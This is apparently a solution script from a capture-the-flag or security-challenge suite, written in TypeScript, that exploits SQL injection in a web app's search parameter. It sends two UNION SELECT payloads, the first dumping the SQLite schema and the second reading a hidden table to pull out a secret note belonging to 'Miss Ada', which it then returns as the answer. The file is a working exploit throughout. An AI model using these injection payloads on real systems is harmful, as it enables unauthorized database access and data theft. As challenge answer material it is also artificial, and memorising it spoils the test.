import type { Solve } from '../../src/solution.ts'

/** Closes the quote, adds a question of our own, and reads the answer from the list of books. */
export const solve: Solve = async ({ baseUrl, headers = {} }) => {
  const ask = async (injected: string) => {
    const response = await fetch(`${baseUrl}/?q=${encodeURIComponent(injected)}`, { headers })
    return response.text()
  }
  const tables = await ask("nothing' UNION SELECT name, sql, 0, type FROM sqlite_master --")
  if (!tables.includes('cubbies')) throw new Error('the injection shows no tables')
  const page = await ask("nothing' UNION SELECT owner, thing, 0, 'x' FROM cubbies WHERE owner = 'Miss Ada' --")
  const note = /<small>([a-z2-7]{26}), 0<\/small>/.exec(page)?.[1]
  if (!note) throw new Error('the note of Miss Ada is not on the page')
  return [note]
}
